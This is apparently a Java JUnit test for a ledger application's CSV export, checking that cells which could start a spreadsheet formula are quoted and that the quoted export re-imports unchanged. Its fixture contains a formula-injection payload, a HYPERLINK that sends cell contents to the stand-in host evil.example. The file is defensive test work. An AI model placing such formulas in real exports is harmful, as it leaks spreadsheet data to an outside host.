package dk.reimbursementdesk.service.interchange;

import static org.junit.jupiter.api.Assertions.assertEquals;

import dk.reimbursementdesk.persistence.Ledger;
import dk.reimbursementdesk.testing.TestLedgers;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 18, point 4: on export, a text cell that begins with {@code =}, {@code +}, {@code -}, {@code @},
 * a tab or a carriage return gets a leading quote, so a spreadsheet shows it rather than running it
 * as a formula (OWASP's CSV injection advice); amounts keep their sign, and the export imports again
 * unchanged.
 */
class SpreadsheetInjectionTest {

    @TempDir
    Path dir;

    private static final String CUSTOMERS = """
            account,name,group,currency
            C1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",G,DKK
            C2,+45 Plumbing,G,DKK
            C3,-2+3,=G,DKK
            @C4,@SUM(A1:A9),G,DKK
            C5,Plain ApS,G,DKK
            """;

    private static String export(Ledger ledger, ExportKind kind) {
        StringWriter out = new StringWriter();
        new ExportService(ledger).export(kind, out);
        return out.toString();
    }

    @Test
    void textCellsAFormulaCouldStartWithAreQuotedAmountsAreNot() {
        try (Ledger ledger = TestLedgers.empty(dir)) {
            ImportService imports = new ImportService(ledger);
            imports.importCsv(ImportKind.CUSTOMERS, new StringReader(CUSTOMERS), "c.csv");
            imports.importCsv(ImportKind.TRANSACTIONS, new StringReader("""
                    customer,date,type,document,amount
                    C1,2026-10-01,PAYMENT,-PAY-1,40.00
                    """), "t.csv");
            // A tab: SQLite's char(9), PostgreSQL's chr(9).
            TestLedgers.execute(ledger, "UPDATE customer SET name = " + (TestLedgers.onPostgres() ? "chr(9)" : "char(9)")
                    + " || 'Tab' WHERE account = 'C5'");
            assertEquals("""
                    account,name,group,currency,vendor_account,iban,bic\r
                    '@C4,'@SUM(A1:A9),G,DKK,,,\r
                    C1,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",G,DKK,,,\r
                    C2,'+45 Plumbing,G,DKK,,,\r
                    C3,'-2+3,'=G,DKK,,,\r
                    C5,'\tTab,G,DKK,,,\r
                    """, export(ledger, ExportKind.CUSTOMERS));
            assertEquals("""
                    customer,date,type,document,amount,currency,open,due_date\r
                    C1,2026-10-01,PAYMENT,'-PAY-1,40.00,DKK,-40.00,\r
                    """, export(ledger, ExportKind.TRANSACTIONS));
            assertEquals("customer,currency,balance\r\nC1,DKK,-40.00\r\n", export(ledger, ExportKind.BALANCES));
        }
    }

    @Test
    void theQuotedExportImportsAgainAsItWas() throws Exception {
        String exported;
        try (Ledger ledger = TestLedgers.empty(dir.resolve("a"))) {
            new ImportService(ledger).importCsv(ImportKind.CUSTOMERS, new StringReader(CUSTOMERS), "c.csv");
            exported = export(ledger, ExportKind.CUSTOMERS);
        }
        try (Ledger copy = TestLedgers.empty(Files.createDirectories(dir.resolve("b")))) {
            new ImportService(copy).importCsv(ImportKind.CUSTOMERS, new StringReader(exported), "exported.csv");
            assertEquals(exported, export(copy, ExportKind.CUSTOMERS));
            assertEquals(1, TestLedgers.count(copy, "SELECT count(*) FROM customer WHERE account = '@C4' AND name = '@SUM(A1:A9)'"));
        }
    }
}
